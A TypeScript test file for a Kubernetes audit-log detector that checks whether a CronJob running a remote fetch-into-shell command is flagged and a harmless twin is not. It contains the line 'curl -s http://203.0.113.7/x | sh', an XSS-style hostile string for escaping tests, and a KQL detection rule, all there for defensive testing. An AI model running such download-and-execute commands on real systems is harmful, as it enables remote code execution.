import assert from 'node:assert/strict';
import { test } from 'node:test';
import { FILES, fileOf, GUID, load } from '../emulate/testing.ts';
import { compileQuery } from '../kql/query.ts';
import { TABLES } from '../kql/tables/schemas.ts';
import type { JsonObject } from '../model/json.ts';
import { sectionsHtml } from '../sink/sections/html.ts';
import { sectionsMarkdown } from '../sink/sections/markdown.ts';
import { sectionsText } from '../sink/sections/text.ts';
import { paintWith } from '../sink/table-text.ts';
import { rowsOfRule } from './against.ts';
import { junitOf } from './junit.ts';
import { matrixOf } from './matrix.ts';
import { robustness } from './mutate.ts';
import { navigatorLayer } from './navigator.ts';
import type { Played } from './played.ts';
import { prove } from './prove.ts';
import { proofReport } from './sections.ts';

const EXPECTS = `${GUID}:
  id: download
  delivery: create
  kind: CronJob
  payload: download-into-shell
  disguise: none
  privilege: none
  schedule: daily
  identity: developer
  outcome: accepted
  expects: [{ workload: { kind: CronJob, name: cw-a }, severityAtLeast: high, indicators: [command.remote-fetch-execute] }]
  atMetadata: [{ workload: { kind: CronJob, name: cw-a }, severityAtMost: low }]
  twin: { arguments: { kubectl: k }, severityAtMost: low }
`;
const loaded = load(fileOf(), FILES, EXPECTS);
assert.ok(typeof loaded !== 'string');
const { atomics } = loaded;

const event = (auditID: string, script: string): JsonObject => ({
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  level: 'Request',
  auditID,
  stage: 'ResponseComplete',
  requestURI: '/apis/batch/v1/namespaces/lab/cronjobs',
  verb: 'create',
  user: { username: 'dana@example.com', groups: ['system:authenticated'] },
  sourceIPs: ['192.0.2.1'],
  userAgent: 'kubectl-cw1/v1.36.3',
  objectRef: { resource: 'cronjobs', namespace: 'lab', name: 'cw-a', apiGroup: 'batch', apiVersion: 'v1' },
  responseStatus: { metadata: {}, code: 201 },
  requestObject: {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'cw-a', namespace: 'lab' },
    spec: {
      schedule: '0 3 * * *',
      jobTemplate: {
        spec: {
          template: {
            spec: {
              restartPolicy: 'Never',
              containers: [{ name: 'a', image: 'busybox:1.36', command: ['sh', '-c', script] }],
            },
          },
        },
      },
    },
  },
  requestReceivedTimestamp: '2026-11-24T10:00:00.000001Z',
  stageTimestamp: '2026-11-24T10:00:00.000002Z',
});
const play = (attack: string, twin: string): readonly Played[] => [
  {
    test: 'download',
    variant: 'attack',
    runId: 'cw1',
    events: [event('00000000-0000-4000-8000-000000000001', attack)],
  },
  {
    test: 'download',
    variant: 'twin',
    runId: 'cw1-twin',
    events: [event('00000000-0000-4000-8000-000000000002', twin)],
  },
];
const BAD = 'curl -s http://203.0.113.7/x | sh';
const HOSTILE = '<script>alert(1)</script> | "]]>\u001b[31m\u0000';

test('in every envelope the test is detected with its body, partly without, and its twin quiet', async () => {
  const proved = await prove({ atomics, played: play(BAD, 'date') });
  assert.deepEqual(
    proved.flatMap(({ variant, level, envelope, problems }) =>
      problems.map((one) => `${variant} ${level} ${envelope}: ${one}`),
    ),
    [],
  );
  const verdicts = new Set(proved.map(({ variant, level, verdict }) => `${variant} ${level} ${verdict}`));
  assert.deepEqual(
    [...verdicts].sort(),
    [
      'attack Metadata partly',
      'attack Request detected',
      'attack RequestResponse detected',
      'twin Metadata quiet',
      'twin Request quiet',
      'twin RequestResponse quiet',
    ].sort(),
  );
});

test('a test that is not found and a twin that is are told in every format, and fail', async () => {
  const proved = await prove({ atomics, played: play('date', BAD), envelopes: 'plain' });
  const rows = matrixOf(atomics, proved);
  const report = proofReport({
    rows,
    robustness: null,
    envelopes: ['a'],
    source: HOSTILE,
    against: 'original',
    notes: [],
  });
  for (const text of [sectionsText(report, 200, paintWith(false)), sectionsMarkdown(report), sectionsHtml(report)]) {
    assert.match(text, /1 otherwise than expected/);
    assert.match(text, /partly/);
    assert.match(text, /loud/);
  }
  const xml = junitOf(proved);
  assert.match(xml, /<testsuites name="cronwarden atomics prove" tests="6" failures="4"/);
  assert.equal((xml.match(/<failure /g) ?? []).length, 4);
});

test('a layer scores each technique by the share of its tests that are detected', async () => {
  const layer = async (attack: string): Promise<readonly { techniqueID: string; score: number }[]> => {
    const proved = await prove({ atomics, played: play(attack, 'date'), envelopes: 'plain' });
    const made = navigatorLayer(matrixOf(atomics, proved), proved) as {
      techniques: { techniqueID: string; score: number }[];
    }; // What it builds.
    return made.techniques;
  };
  const found = await layer(BAD);
  assert.ok(found.some(({ techniqueID, score }) => techniqueID === 'T1053.007' && score === 100));
  assert.ok(found.length > 1);
  assert.ok((await layer('date')).every(({ score }) => score === 0));
});

test('the XML holds no character and no markup of what it tells of', async () => {
  const [first] = await prove({ atomics, played: play(BAD, 'date'), envelopes: 'plain' });
  assert.ok(first !== undefined);
  const xml = junitOf([{ ...first, test: HOSTILE, problems: [HOSTILE] }]);
  assert.ok(!xml.includes('<script') && !xml.includes('\u001b') && !xml.includes('\u0000') && !xml.includes(']]>'));
});

test('robustness: what loses a detection, and that disguises do not', () => {
  const [one] = robustness(atomics, play(BAD, 'date'));
  assert.ok(one !== undefined);
  assert.equal(one.expected, 'high');
  const disguises = one.changes.filter(({ kind }) => kind === 'disguise');
  assert.ok(disguises.length >= 8);
  assert.deepEqual(
    disguises.filter(({ holds }) => !holds).map(({ change }) => change),
    [],
  );
  const drops = one.changes.filter(({ kind }) => kind === 'drop');
  assert.ok(
    drops.some(({ holds }) => !holds),
    'without its command nothing is left to find',
  );
});

test('a rule of KQL stands beside ours with the rows that it gives of each run', async () => {
  const query = await compileQuery(
    'AKSAudit | where Verb == "create" | where tostring(RequestObject) has "curl" | project tostring(ObjectRef.name)',
    TABLES,
  );
  const played = play(BAD, 'date');
  const rows = await rowsOfRule(query, played);
  assert.deepEqual(
    rows.map(({ variant, rows: count }) => [variant, count]),
    [
      ['attack', 1],
      ['twin', 0],
    ],
  );
  const proved = await prove({ atomics, played, envelopes: 'plain' });
  const report = proofReport({
    rows: matrixOf(atomics, proved),
    robustness: null,
    envelopes: ['a'],
    source: 'a test',
    against: { name: 'rule.kql', rows },
    notes: [],
  });
  const text = sectionsText(report, 200, paintWith(false));
  assert.match(text, /rule\.kql gives rows of 1 of 1 tests, and of 0 of their harmless twins/);
  assert.match(text, /1 row, twin 0/);
});
